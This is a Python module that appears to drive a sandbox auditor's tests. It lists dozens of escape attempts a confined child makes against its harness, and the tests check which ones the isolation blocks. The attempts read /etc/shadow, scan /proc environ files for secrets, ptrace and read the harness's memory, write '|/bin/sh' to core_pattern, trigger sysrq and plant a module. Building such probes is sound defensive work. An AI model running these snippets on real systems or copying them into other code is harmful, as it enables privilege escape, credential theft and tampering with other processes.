"""Attacks that either succeed or do not: each is a function's body that raises OSError or returns what it got.

``facts`` tells it what a real attacker would have to guess: ``pid`` of the harness, ``secret`` (a file that was not
made readable), ``secret_text`` (also in the harness's environment), ``readable`` (a file that was), ``outside`` (a
folder that anyone may write), ``port``, ``unix`` and ``abstract`` (listening sockets of the harness).
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping

_PRELUDE = """
import ctypes, glob, json, os, platform, resource, signal, socket, struct, sys
from auditor.sandbox.child import send
facts = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
def call(x86, arm, *arguments):
    result = libc.syscall(x86 if X86 else arm, *arguments)
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result
"""

_EPILOGUE = """
outcomes = {}
for number, name in enumerate(json.loads(sys.argv[2])):
    os.mkdir(str(number)); os.chdir(str(number))
    try:
        got = globals()[f"attempt_{number}"]()
        outcomes[name] = repr(got)[:500] if got else None
    except (OSError, ValueError):
        outcomes[name] = None
    os.chdir("..")
send(outcomes)
"""


def program(attempts: Mapping[str, str]) -> str:
    """A program that makes the attempts, in a folder each, and sends what each got; ``argv`` is facts, then names."""
    functions = [
        f"def attempt_{number}():\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
        for number, body in enumerate(attempts.values())
    ]
    return _PRELUDE + "".join(functions) + _EPILOGUE


# These succeed without isolation (``Tier.NONE``), which a test checks: the attack is real.
OPEN = {
    "connect to a TCP port": "return socket.create_connection(('127.0.0.1', facts['port']), 2)",
    "send a datagram": "return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
    "listen on TCP": "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); return s.getsockname()",
    "connect to a unix socket": "s = socket.socket(socket.AF_UNIX); s.connect(facts['unix']); return 'connected'",
    "connect to an abstract socket": """
        s = socket.socket(socket.AF_UNIX); s.connect('\\0' + facts['abstract']); return 'connected'""",
    "datagram pair that could address others": """
        return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)""",
    "netlink": "return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)",
    "read the accounts": "return open('/etc/passwd').read()",
    "read a file of the host": "return open(facts['secret']).read()",
    "list the folder of the secret": "return os.listdir(os.path.dirname(facts['secret']))",
    "read through a symlink": "os.symlink(facts['secret'], 'link'); return open('link').read()",
    "read through /proc/self/root": "return open('/proc/self/root' + facts['secret']).read()",
    "read through /proc/self/cwd": "return open('/proc/self/cwd/' + '../' * 30 + facts['secret']).read()",
    "swap a symlink under the reader": """
        import threading
        open('good', 'w').write('')
        def swap():
            for _ in range(3000):
                os.symlink(facts['secret'], 'next'); os.replace('next', 'path')
                os.symlink('good', 'next'); os.replace('next', 'path')
        os.symlink('good', 'path')
        thread = threading.Thread(target=swap); thread.start()
        while thread.is_alive():
            try:
                text = open('path').read()
            except OSError:
                continue
            if text: thread.join(); return text""",
    "write outside": "open(facts['outside'] + '/planted', 'w').write('x'); return 'written'",
    "move a file outside": """
        victim = facts['outside'] + '/victim'; os.rename(victim, victim + '2'); os.rename(victim + '2', victim)
        return 'moved'""",
    "remove outside": "os.unlink(facts['outside'] + '/victim'); return 'removed'",
    "copy into outside by link": "open('mine', 'w').close(); os.link('mine', facts['outside'] + '/l'); return 'linked'",
    "truncate a readable file": "os.truncate(facts['readable'], 0); return 'truncated'",
    "write to a readable file": "open(facts['readable'], 'a').write('x'); return 'written'",
    "find the harness in /proc": """
        return [p for p in glob.glob('/proc/[0-9]*/cmdline') if int(p.split('/')[2]) == facts['pid']
                and open(p).read()]""",
    "anonymous memory file": "return os.memfd_create('x')",
    "System V shared memory": "return call(29, 194, 0, 4096, 0o1600) + 1",
    "fork as a child of the harness": """
        child = call(56, 220, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0: os._exit(0)
        return child""",
}

# These may fail without isolation too, by uid or by the kernel's settings.
CLOSED = {
    "read the shadow file": "return open('/etc/shadow').read()",
    "read root's home": "return os.listdir('/root')",
    "steal the environment": """
        for path in ['/proc/self/environ', *glob.glob('/proc/*/environ'), f"/proc/{facts['pid']}/environ"]:
            try:
                if facts['secret_text'].encode() in open(path, 'rb').read(): return path
            except OSError: pass
        return facts['secret_text'] in os.environ.values()""",
    "look into the harness's memory": "return os.open(f\"/proc/{facts['pid']}/mem\", os.O_RDWR) + 1",
    "look at the harness's descriptors": "return os.listdir(f\"/proc/{facts['pid']}/fd\")",
    "inherit descriptors": "return [fd for fd in range(4, 4096) if os.path.exists(f'/proc/self/fd/{fd}')]",
    "signal the harness": "os.kill(facts['pid'], 0); return 'signalled'",
    "signal the harness by pidfd": """
        signal.pidfd_send_signal(os.pidfd_open(facts['pid']), 0); return 'signalled'""",
    "send the harness SIGURG by F_SETOWN": """
        import fcntl
        ours, theirs = socket.socketpair()
        fcntl.fcntl(ours, fcntl.F_SETOWN, facts['pid'])
        fcntl.fcntl(ours, 10, signal.SIGUSR1)  # F_SETSIG
        fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
        theirs.send(b'x')""",
    "ptrace the harness": "return call(101, 117, 16, facts['pid'], 0, 0) + 1",
    "seize the harness": "return call(101, 117, 0x4206, facts['pid'], 0, 0) + 1",
    "read the harness's memory": """
        buffer = ctypes.create_string_buffer(8); vector = struct.pack('PN', ctypes.addressof(buffer), 8)
        return call(310, 270, facts['pid'], vector, 1, vector, 1, 0)""",
    "take the harness's descriptor": "return call(438, 438, os.pidfd_open(facts['pid']), 0, 0) + 1",
    "limit the harness": """
        resource.prlimit(facts['pid'], resource.RLIMIT_FSIZE, (0, 0)); return 'limited'""",
    "slow the harness": "os.setpriority(os.PRIO_PROCESS, facts['pid'], 19); return 'slowed'",
    "raise own limits": """
        resource.setrlimit(resource.RLIMIT_NPROC, (1 << 20, 1 << 20)); return 'raised'""",
    "become root": "os.setuid(0); return 'root'",
    "gain privileges from a set-uid file": """
        return 'NoNewPrivs:\\t1' not in open('/proc/self/status').read() or os.geteuid() == 0""",
    "hold capabilities": """
        status = dict(line.split(':\\t') for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)
        return [k for k in ('CapInh', 'CapPrm', 'CapEff', 'CapAmb') if int(status[k], 16) & ~(1 << 2)]""",
    "new user namespace": "return call(272, 97, 0x10000000) + 1",
    "fork into a new user namespace": """
        child = call(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0: os._exit(0)
        return child""",
    "change a mode outside": "os.chmod(facts['outside'] + '/victim', 0o666); return 'changed'",
    "change a time outside": "os.utime(facts['outside'] + '/victim', (0, 0)); return 'changed'",
    "change an attribute outside": "os.setxattr(facts['outside'] + '/victim', 'user.x', b'x'); return 'changed'",
    "change a readable file's mode": "os.chmod(facts['readable'], 0); return 'changed'",
    "mount": "return call(165, 40, b'none', b'/tmp', b'tmpfs', 0, 0) + 1",
    "change the root": "os.chroot('/'); return 'changed'",
    "join a namespace": "return call(308, 268, os.open('/proc/self/ns/net', os.O_RDONLY), 0) + 1",
    "open by handle": """
        handle = struct.pack('IiQ', 8, 1, 2)
        return call(304, 265, os.open('.', os.O_RDONLY), handle, 0) + 1""",
    "bpf": "return call(321, 280, 0, b'\\0' * 64, 64) + 1",
    "perf": "return call(298, 241, b'\\0' * 128, 0, -1, -1, 0) + 1",
    "io_uring": "return call(425, 425, 1, b'\\0' * 120) + 1",
    "userfaultfd": "return call(323, 282, 1) + 1",
    "kernel keys": "return call(250, 219, 0, -3, 1, 0, 0) + 1",
    "a system call of the future": "return call(455, 455, 0, 0, 0) + 1",
    "openat2 past the filter": "return call(437, 437, -100, b'/', struct.pack('QQQ', 0, 0, 0), 24) + 1",
    "device nodes": "os.mknod('disk', 0o60600, os.makedev(254, 0)); return open('disk', 'rb').read(1)",
    "kernel memory": "return open('/dev/mem', 'rb').read(1)",
    "the terminal": "return os.open('/dev/tty', os.O_RDWR) + 1",
    "kernel settings": "return open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')",
    "sysrq": "return open('/proc/sysrq-trigger', 'w').write('h')",
    "write to sysfs": "return [p for p in glob.glob('/sys/**', recursive=True)[:200] if os.access(p, os.W_OK)]",
    "reach the harness's result file": """
        return open(os.path.dirname(os.environ['HOME'].rstrip('/')) + '/result', 'r+b') and 'opened'""",
    "write to standard input": "return os.write(0, b'x')",
    "plant a module beside the imported ones": """
        import auditor
        open(os.path.dirname(auditor.__file__) + '/planted.py', 'w'); return 'planted'""",
}
